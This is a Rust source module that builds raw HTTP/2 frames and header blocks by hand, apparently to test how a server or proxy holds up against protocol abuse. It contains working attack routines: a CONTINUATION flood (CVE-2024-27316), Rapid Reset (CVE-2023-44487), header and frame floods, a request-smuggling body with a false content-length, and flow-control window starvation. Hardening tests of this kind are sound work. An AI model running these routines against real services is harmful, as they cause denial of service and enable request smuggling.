//! HTTP/2 frames (RFC 9113) and header fields (RFC 7541, literals only), written by hand, and what can be done wrong with them.

use std::time::Duration;

use anyhow::Result;
use tokio::{
    io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt},
    time::timeout,
};

use crate::{Leaf, Options, PATIENCE, connect_tls, dial, until_end};

pub(crate) const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
pub(crate) const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
pub(crate) const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;

pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("payloads here are small");
    let mut bytes = length.to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

pub(crate) fn preface() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    bytes
}

/// RFC 7541 6.2.2: literals without indexing, names and values as they are.
pub(crate) fn fields(list: &[(&str, &str)]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for (name, value) in list {
        bytes.push(0);
        for text in [name, value] {
            bytes.extend(length(text.len()));
            bytes.extend(text.as_bytes());
        }
    }
    bytes
}

/// RFC 7541 5.1, with a prefix of 7 bits.
fn length(mut value: usize) -> Vec<u8> {
    let low = |value: usize| u8::try_from(value & 0x7f).expect("seven bits");
    if value < 127 {
        return vec![low(value)];
    }
    let mut bytes = vec![127];
    value -= 127;
    while value >= 128 {
        bytes.push(low(value) | 0x80);
        value >>= 7;
    }
    bytes.push(low(value));
    bytes
}

pub(crate) fn connect(authority: &str) -> Vec<u8> {
    fields(&[(":method", "CONNECT"), (":authority", authority)])
}

pub(crate) fn get(authority: &str) -> Vec<u8> {
    fields(&[
        (":method", "GET"),
        (":scheme", "http"),
        (":path", "/"),
        (":authority", authority),
    ])
}

/// A connection to an HTTP/2 server, with TLS or without.
trait Duplex: AsyncRead + AsyncWrite + Unpin + Send {}
impl<T: AsyncRead + AsyncWrite + Unpin + Send> Duplex for T {}
type Wire = Box<dyn Duplex>;

impl Options {
    /// The header block of a request that would be served.
    pub(crate) fn block(&self) -> Vec<u8> {
        match self.plain {
            true => get(&self.authority),
            false => connect(&self.authority),
        }
    }
}

async fn open(options: &Options) -> Result<Wire> {
    let mut wire: Wire = match options.plain {
        true => Box::new(dial(options).await?),
        false => Box::new(connect_tls(options, Some(Leaf::default())).await?),
    };
    wire.write_all(&preface()).await?;
    Ok(wire)
}

struct Frame {
    kind: u8,
    stream: u32,
    payload: Vec<u8>,
}

async fn read_frame(tls: &mut Wire) -> Result<Frame> {
    let mut head = [0; 9];
    tls.read_exact(&mut head).await?;
    let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
    let mut payload = vec![0; usize::try_from(length)?];
    tls.read_exact(&mut payload).await?;
    let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]) & 0x7fff_ffff;
    Ok(Frame {
        kind: head[3],
        stream,
        payload,
    })
}

/// What the peer answers on stream 1: `status N`, `reset CODE`, `goaway CODE`, `closed`, or `open`.
async fn answer(tls: &mut Wire) -> String {
    let first = async {
        loop {
            let Ok(frame) = read_frame(tls).await else {
                return "closed".to_owned();
            };
            match frame.kind {
                HEADERS if frame.stream == 1 => {
                    return format!("status {}", status(&frame.payload));
                }
                RST_STREAM if frame.stream == 1 => {
                    return format!("reset {}", code(&frame.payload, 0));
                }
                GOAWAY => return format!("goaway {}", code(&frame.payload, 4)),
                _ => {}
            }
        }
    };
    timeout(PATIENCE, first)
        .await
        .unwrap_or_else(|_| "open".to_owned())
}

fn code(payload: &[u8], at: usize) -> u32 {
    let bytes = payload
        .get(at..at + 4)
        .and_then(|bytes| bytes.try_into().ok());
    bytes.map_or(u32::MAX, u32::from_be_bytes)
}

/// The status of a header block: indexed from the static table, or a literal of three digits.
fn status(block: &[u8]) -> String {
    match block.first() {
        Some(0x88) => "200".to_owned(),
        Some(0x8c) => "400".to_owned(),
        Some(0x8d) => "404".to_owned(),
        Some(0x8e) => "500".to_owned(),
        _ => huffman_or_plain(block),
    }
}

fn huffman_or_plain(block: &[u8]) -> String {
    match block {
        [_, 3, digits @ ..] if digits.len() >= 3 => {
            String::from_utf8_lossy(&digits[..3]).into_owned()
        }
        // RFC 7541, appendix B: a digit is 5 bits (0, 1, 2) or 6 bits (3 to 9: 0x19 and up).
        [_, length, rest @ ..] if length & 0x80 != 0 => {
            digits(&rest[..usize::from(length & 0x7f).min(rest.len())])
        }
        _ => format!("{block:02x?}"),
    }
}

fn digits(bytes: &[u8]) -> String {
    let bits: Vec<u8> = bytes
        .iter()
        .flat_map(|byte| (0..8).rev().map(move |bit| byte >> bit & 1))
        .collect();
    let take = |at: usize, n: usize| {
        bits.get(at..at + n)
            .map(|bits| bits.iter().fold(0u8, |value, bit| value << 1 | bit))
    };
    let (mut text, mut at) = (String::new(), 0);
    while text.len() < 3 {
        match (take(at, 5), take(at, 6)) {
            (Some(value @ 0..=2), _) => {
                text.push(char::from(b'0' + value));
                at += 5;
            }
            (_, Some(value @ 0x19..=0x1f)) => {
                text.push(char::from(b'3' + value - 0x19));
                at += 6;
            }
            _ => return format!("{bytes:02x?}"),
        }
    }
    text
}

pub(crate) async fn request(options: &Options, block: &[u8]) -> Result<String> {
    let mut tls = open(options).await?;
    tls.write_all(&frame(HEADERS, END_HEADERS, 1, block))
        .await?;
    Ok(answer(&mut tls).await)
}

pub(crate) async fn header_flood(options: &Options) -> Result<String> {
    let mut tls = open(options).await?;
    let value = "v".repeat(15_000);
    let mut block = options.block();
    block.extend(fields(&[("x-flood", value.as_str()); 40]));
    let mut pieces = block.chunks(16_000).peekable();
    let mut kind = HEADERS;
    while let Some(piece) = pieces.next() {
        let flags = if pieces.peek().is_none() {
            END_HEADERS
        } else {
            0
        };
        if tls.write_all(&frame(kind, flags, 1, piece)).await.is_err() {
            break;
        }
        kind = CONTINUATION;
    }
    Ok(answer(&mut tls).await)
}

/// A header block that never ends (CVE-2024-27316 and its kin).
pub(crate) async fn continuation_flood(options: &Options) -> Result<String> {
    let mut tls = open(options).await?;
    tls.write_all(&frame(HEADERS, 0, 1, &options.block()))
        .await?;
    let piece = fields(&[("x-flood", &"v".repeat(1000))]);
    for sent in 0..100_000 {
        if tls
            .write_all(&frame(CONTINUATION, 0, 1, &piece))
            .await
            .is_err()
        {
            return Ok(format!("cut after {sent}"));
        }
    }
    Ok("taken".to_owned())
}

/// Requests that are reset at once, over and over (CVE-2023-44487).
pub(crate) async fn rapid_reset(options: &Options) -> Result<String> {
    let mut tls = open(options).await?;
    let block = options.block();
    for number in 0..50_000u32 {
        let stream = 2 * number + 1;
        let mut bytes = frame(HEADERS, END_HEADERS, stream, &block);
        bytes.extend(frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()));
        if tls.write_all(&bytes).await.is_err() {
            return Ok(format!("cut after {number}"));
        }
    }
    match answer(&mut tls).await.as_str() {
        "open" => Ok("taken".to_owned()),
        end => Ok(format!("cut: {end}")),
    }
}

/// A request with one more field.
pub(crate) async fn with(options: &Options, field: (&str, &str)) -> Result<String> {
    let mut block = options.block();
    block.extend(fields(&[field]));
    request(options, &block).await
}

/// A request that is served, and one frame over and over, none of whose answers is read.
pub(crate) async fn flood(options: &Options, bytes: &[u8]) -> Result<String> {
    // Seventy megabytes: beyond what both kernels hold of the frames, and of the answers that are not read.
    const FRAMES: usize = 8_000_000;
    let mut wire = open(options).await?;
    wire.write_all(&frame(HEADERS, END_HEADERS, 1, &options.block()))
        .await?;
    let many = bytes.repeat(1000);
    for sent in 0..FRAMES / 1000 {
        match timeout(Duration::from_secs(5), wire.write_all(&many)).await {
            Ok(Ok(())) => {}
            Ok(Err(_)) => return Ok(format!("cut after {sent}000")),
            Err(_) => return Ok(format!("held after {sent}000")),
        }
    }
    Ok("taken".to_owned())
}

/// A body that is longer than the request says.
pub(crate) async fn length_too_short(options: &Options) -> Result<String> {
    let mut wire = open(options).await?;
    let mut block = options.block();
    block.extend(fields(&[("content-length", "3")]));
    let mut bytes = frame(HEADERS, END_HEADERS, 1, &block);
    bytes.extend(frame(DATA, 1, 1, b"GET /smuggled HTTP/1.1\r\n\r\n"));
    wire.write_all(&bytes).await?;
    Ok(answer(&mut wire).await)
}

/// A connection that shows a good certificate and then says nothing at all.
pub(crate) async fn silent(options: &Options) -> Result<String> {
    let mut tls = connect_tls(options, Some(Leaf::default())).await?;
    Ok(until_end(&mut tls).await)
}

/// What we may still send (RFC 9113 6.9).
struct Windows {
    connection: i64,
    stream: i64,
}

impl Windows {
    fn learn(&mut self, frame: &Frame) {
        match frame.kind {
            WINDOW_UPDATE if frame.stream == 0 => {
                self.connection += i64::from(code(&frame.payload, 0))
            }
            WINDOW_UPDATE => self.stream += i64::from(code(&frame.payload, 0)),
            SETTINGS => {
                for setting in frame
                    .payload
                    .chunks_exact(6)
                    .filter(|setting| setting[..2] == [0, 4])
                {
                    self.stream += i64::from(code(setting, 2)) - 65_535;
                }
            }
            _ => {}
        }
    }
}

/// Sends to an echo and never grants it a window: whether the tunnel stops taking bytes, and how many MiB it took.
pub(crate) async fn stop_reading(options: &Options) -> Result<String> {
    const BLOCK: i64 = 16_000;
    let mut tls = open(options).await?;
    tls.write_all(&frame(
        HEADERS,
        END_HEADERS,
        1,
        &connect(&options.authority),
    ))
    .await?;
    let block = frame(DATA, 0, 1, &[b'E'; 16_000]);
    let mut windows = Windows {
        connection: 65_535,
        stream: 65_535,
    };
    let mut taken = 0;
    while taken < 1 << 30 {
        if windows.connection.min(windows.stream) >= BLOCK {
            tls.write_all(&block).await?;
            windows.connection -= BLOCK;
            windows.stream -= BLOCK;
            taken += BLOCK;
            continue;
        }
        match timeout(Duration::from_secs(3), read_frame(&mut tls)).await {
            Ok(Ok(frame)) => windows.learn(&frame),
            Ok(Err(error)) => return Ok(format!("cut after {taken}: {error}")),
            Err(_) => return Ok(format!("held at {} MiB", taken >> 20)),
        }
    }
    Ok("taken".to_owned())
}
